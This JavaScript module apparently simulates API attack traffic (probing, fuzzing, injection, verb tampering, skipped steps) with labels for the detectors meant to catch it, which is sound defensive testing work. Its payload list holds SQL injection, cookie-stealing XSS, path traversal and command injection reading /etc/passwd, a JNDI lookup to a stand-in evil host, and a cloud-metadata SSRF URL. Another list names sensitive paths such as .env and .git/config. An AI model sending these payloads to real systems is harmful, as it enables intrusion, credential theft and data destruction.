/* Attacks on what the API can do: probing, payloads, hidden and skipped functions; see attacks-on-accounts for the words. */
import { clockFrom } from './diary.mjs';
import { farAddress, hostingAddress } from './networks.mjs';
import { browser, tool } from './user-agents.mjs';

const PATHS = [
  '.env',
  '.git/config',
  'wp-login.php',
  'admin',
  'phpmyadmin/index.php',
  'actuator/env',
  'server-status',
  'backup.zip',
  'api/swagger.json',
  'v2/api-docs',
  'graphql',
  'console',
  'debug/vars',
  'config.json',
  'api/internal/users',
  'api/v1/admin',
  'test',
  'old',
];
const PARAMETERS = [
  'debug',
  'admin',
  'isAdmin',
  'role',
  'user_id',
  'account',
  'fields',
  'include',
  'callback',
  'redirect',
  'file',
  'path',
  'cmd',
  'template',
  'internal',
  'verbose',
  'format',
  'limit',
  'raw',
  'tenant',
  'source',
  'env',
  'trace',
  '_method',
];
const PAYLOADS = [
  "' OR '1'='1' --",
  '1 UNION SELECT username,password FROM users--',
  "'; DROP TABLE orders;--",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(document.cookie)>',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fwindows/win.ini',
  '1 AND SLEEP(5)',
  `\${jndi:ldap://x.evil.example/a}`,
  '; cat /etc/passwd',
  '{{7*7}}',
  'http://169.254.169.254/latest/meta-data/',
];
const VERBS = ['PUT', 'DELETE', 'PATCH', 'TRACE', 'PROPFIND', 'CONNECT', 'POST'];
const STRANGE = [
  'endpoint-probing',
  'parameter-fuzzing',
  'verb-tampering',
  'function-probing',
  'shadow-endpoint',
  'abnormal-parameter',
  'injection-attempt',
];

const amount = (stage, loud, medium, quiet) => [loud, medium, quiet][stage.level];

export const ATTACKS_ON_FUNCTIONS = [
  {
    name: 'endpoint-probing',
    detectors: STRANGE,
    hours: [0.1, 0.4, 2],
    run: (stage) => {
      const { dice } = stage;
      const who = { ip: hostingAddress(dice), ua: tool(dice) };
      stage.spread(amount(stage, 800, 120, 40), amount(stage, 0.1, 0.35, 2), (n) => [
        who,
        stage.surface.nowhere(
          n < PATHS.length ? `/${PATHS[n]}` : `/${dice.pick(PATHS)}/${dice.text(4, 'abcdefgh')}`,
        ),
      ]);
    },
  },
  {
    name: 'endpoint-probing-insider',
    detectors: STRANGE,
    hours: [0.2, 0.5, 2],
    run: (stage) => {
      const { dice, surface } = stage;
      const { caller } = surface.keyHolder();
      stage.spread(amount(stage, 300, 60, 15), amount(stage, 0.2, 0.5, 2), () => [
        caller,
        surface.guessedPath(dice),
      ]);
    },
  },
  {
    name: 'parameter-fuzzing',
    detectors: STRANGE,
    hours: [0.2, 0.5, 2],
    run: (stage) => {
      const { dice, surface } = stage;
      const { caller } = surface.account();
      stage.spread(amount(stage, 400, 80, 25), amount(stage, 0.2, 0.5, 2), () => [
        caller,
        surface.withQuery(
          `${dice.pick(PARAMETERS)}${dice.chance(0.3) ? dice.int(99) : ''}=${dice.pick(['true', '1', 'admin', '-1', '999999999', '[]', '%00', 'null', 'A'.repeat(900)])}`,
          dice.chance(0.3) ? 400 : 200,
        ),
      ]);
    },
  },
  {
    name: 'injection',
    detectors: ['injection-attempt', ...STRANGE],
    hours: [0.2, 0.5, 2],
    run: (stage) => {
      const { dice, surface } = stage;
      const who = dice.chance(0.5)
        ? surface.account().caller
        : surface.visitor({ ip: farAddress(dice), ua: browser(dice) });
      stage.spread(amount(stage, 200, 40, 6), amount(stage, 0.2, 0.5, 2), () => [
        who,
        surface.withText(dice.pick(PAYLOADS), dice.chance(0.3) ? 400 : 200),
      ]);
    },
  },
  {
    name: 'verb-tampering',
    detectors: STRANGE,
    hours: [0.2, 0.5, 1],
    run: (stage) => {
      const { dice, surface } = stage;
      const { caller } = surface.account();
      stage.spread(amount(stage, 120, 30, 8), amount(stage, 0.2, 0.5, 1), () => {
        const request = surface.browse();
        return [
          caller,
          {
            ...request,
            method: dice.pick(VERBS),
            query: undefined,
            status: dice.pick([405, 405, 403, 404]),
            bytes: 80,
          },
        ];
      });
    },
  },
  {
    name: 'function-probing',
    detectors: [...STRANGE, 'unusual-data-access'],
    hours: [0.3, 1, 2],
    run: (stage) => {
      const { dice, surface } = stage;
      const { caller } = surface.person();
      stage.spread(amount(stage, 100, 25, 6), amount(stage, 0.3, 1, 2), () => [
        caller,
        surface.admin(dice.chance(0.25)),
      ]);
    },
  },
  {
    name: 'skipped-step',
    detectors: ['skipped-step', 'unusual-sequence'],
    hours: [1, 1, 2],
    run: (stage) => {
      const { dice, surface } = stage;
      const thief = surface.shopper();
      const at = clockFrom(stage.startMs);
      for (let round = 0; round < amount(stage, 40, 10, 3); round += 1) {
        for (const request of surface.skipping())
          stage.add(at.after(1500 + dice.exponential(5000)), thief.caller, request);
        at.after(dice.exponential(amount(stage, 20_000, 120_000, 900_000)));
      }
    },
  },
  {
    name: 'zombie-endpoint',
    detectors: [
      'zombie-endpoint',
      ...STRANGE,
      'scraping',
      'object-enumeration',
      'unusual-data-access',
      'data-exfiltration',
    ],
    hours: [0.5, 1, 2],
    run: (stage) => {
      const { surface } = stage;
      const { caller } = surface.account();
      stage.spread(amount(stage, 150, 40, 10), amount(stage, 0.5, 1, 2), (n) => [caller, surface.zombie(n)]);
    },
  },
];
